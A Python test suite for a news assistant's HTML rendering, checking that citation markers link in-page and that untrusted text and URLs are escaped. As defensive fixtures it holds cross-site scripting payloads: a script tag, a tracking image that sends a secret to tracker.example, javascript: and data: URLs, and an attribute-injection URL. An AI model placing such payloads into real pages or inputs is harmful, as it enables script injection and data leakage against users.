"""HTML rendering of answers, citations and summaries: markers link, untrusted text stays inert."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from typing import Any

from assistant.types import NO_ANSWER, Answer, Citation
from index.records import FailedSource, SyncReport
from ui import render
from ui.render import Turn

EVIL = (
    '<script>alert(1)</script><img src="https://tracker.example/p.gif?q=secret">'
    '![leak](https://tracker.example/x.png) <a href="javascript:alert(2)">x</a> '
    'https://tracker.example/auto "quoted" & more'
)
OUR_TAGS = {
    "a",
    "br",
    "em",
    "strong",
    "mark",
    "div",
    "article",
    "header",
    "span",
    "section",
    "h4",
    "p",
    "code",
    "ul",
    "li",
    "dl",
    "dt",
    "dd",
}


class TagCollector(HTMLParser):
    """Every start tag with its attributes, to check that data never becomes markup."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def tags_of(markup: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = TagCollector()
    parser.feed(markup)
    return parser.tags


def assert_inert(markup: str) -> None:
    """Only our own tags; every link is an in-page citation link or a safe article link."""
    for tag, attrs in tags_of(markup):
        assert tag in OUR_TAGS, f"unexpected <{tag}> in {markup!r}"
        assert not any(name.startswith("on") or name in ("src", "style") for name in attrs)
        if tag == "a":
            href = attrs.get("href") or ""
            assert href.startswith("#aa-cite-") or (
                href.startswith(("http://", "https://"))
                and attrs.get("rel") == "noopener noreferrer"
            ), href
            assert "tracker.example" not in href


def cite(n: int = 1, **over: Any) -> Citation:
    passage = "Before the quote. Bessent said everything is on the table. After it."
    quote = "Bessent said everything is on the table."
    fields: dict[str, Any] = dict(
        n=n,
        article_id="a1",
        title="Trade talks",
        source="Reuters",
        published="2025-10-24",
        url="https://news.example/trade",
        quote=quote,
        chunk_id="a1:0",
        start=118,
        end=118 + len(quote),
        score=0.5,
        passage=passage,
        passage_start=100,
    )
    fields.update(over)
    return Citation(**fields)


# --- rendering -------------------------------------------------------------------------------
def test_answer_markers_become_citation_links() -> None:
    answer = Answer(
        "q", "He threatened tariffs [1]. Also this [2]. Not this [9].", True, [cite(1), cite(2)]
    )
    markup = render.answer_html(answer, turn=3)
    links = [a for t, a in tags_of(markup) if t == "a"]
    assert [a["href"] for a in links] == ["#aa-cite-3-1", "#aa-cite-3-2"]
    assert "[9]" in markup  # a marker without a citation stays plain text
    assert_inert(markup)


def test_untrusted_text_is_escaped_everywhere() -> None:
    c = cite(
        1,
        title=EVIL,
        source=EVIL,
        quote=EVIL,
        passage=f"x {EVIL} y",
        start=102,
        passage_start=100,
        url="javascript:alert(3)",
    )
    answer = Answer(EVIL, f"{EVIL} [1]", True, [c])
    turns = [Turn(EVIL, answer=answer)]
    for markup in (
        render.answer_html(answer, 0),
        render.citation_card(c, 0),
        render.sources_html(turns),
        render.question_html(EVIL),
        render.streaming_html(EVIL),
        render.error_html(EVIL),
        *(m["content"] for m in render.chat_messages(turns)),
    ):
        assert_inert(markup)
        assert "<script" not in markup and "<img" not in markup
    card = render.citation_card(c, 0)
    assert "javascript:alert(3)" in card  # shown as text...
    assert 'href="javascript' not in card  # ...never as a link


def test_safe_url() -> None:
    assert render.safe_url("https://news.example/a?b=1") == "https://news.example/a?b=1"
    for bad in (
        "javascript:alert(1)",
        "data:text/html,x",
        "http://",
        "https://a b.com",
        "ftp://x.org/a",
        "//evil.example/x",
        None,
        "",
    ):
        assert render.safe_url(bad) is None, bad
    card = render.citation_card(cite(1, url='https://x.example/"onmouseover="a'), 0)
    assert_inert(card)


def test_passage_highlights_the_quote_at_its_offset() -> None:
    markup = render.passage_html(cite())
    assert markup == (
        "Before the quote. <mark>Bessent said everything is on the table.</mark> After it."
    )
    # Offsets that do not match fall back to finding the quote in the passage.
    assert "<mark>Bessent said" in render.passage_html(cite(start=0, passage_start=0))
    # A quote missing from the passage is still shown, marked, above the passage.
    odd = render.passage_html(cite(quote="Something else."))
    assert odd.startswith("<mark>Something else.</mark><br>Before the quote.")


def test_sources_panel_shows_latest_turn_and_keeps_older_ones() -> None:
    first = Turn("q1", answer=Answer("q1", "a [1]", True, [cite(1)]))
    declined = Turn("q2", answer=Answer("q2", NO_ANSWER, False, [cite(1), cite(2)]))
    markup = render.sources_html([first, declined])
    assert 'id="aa-cite-0-1"' in markup and 'id="aa-cite-1-2"' in markup
    assert 'class="aa-turn aa-hidden" data-turn="0"' in markup
    assert 'class="aa-turn" data-turn="1"' in markup
    assert "No answer found; closest passages" in markup
    assert "closest passages are listed" in render.answer_html(declined.answer, 1)  # type: ignore[arg-type]
    assert "data-finished='2'" in markup
    assert "data-finished='1'" in render.sources_html([first, Turn("q3")])
    assert "data-finished='1'" in render.sources_html([Turn("q4", error="bad")])
    assert "Ask a question" in render.sources_html([])


def test_status_and_summary_html() -> None:
    status = SimpleNamespace(
        articles=3, chunks=12, embedding_model="bundled:<b>", chunking="c", store="/x"
    )
    assert "12" in render.status_html(status) and "&lt;b&gt;" in render.status_html(status)
    assert "/x" not in render.status_html(status)  # no server path, even of the store
    report = SyncReport(
        added=1,
        duplicates=[FailedSource("/home/u/up/b.txt", "same text as /home/u/up/a.txt")],
    )
    problems = [("bin.txt", "binary <x>"), ("a.exe", "unsupported file type '.exe'")]
    summary = render.sync_summary_html(report, problems, home=Path("/home/u"))
    assert "1 added" in summary and "bin.txt" in summary and "/home/u" not in summary
    assert "b.txt: same text as a.txt" in summary
    assert "binary &lt;x&gt;" in summary and "a.exe" in summary
    assert_inert(summary)
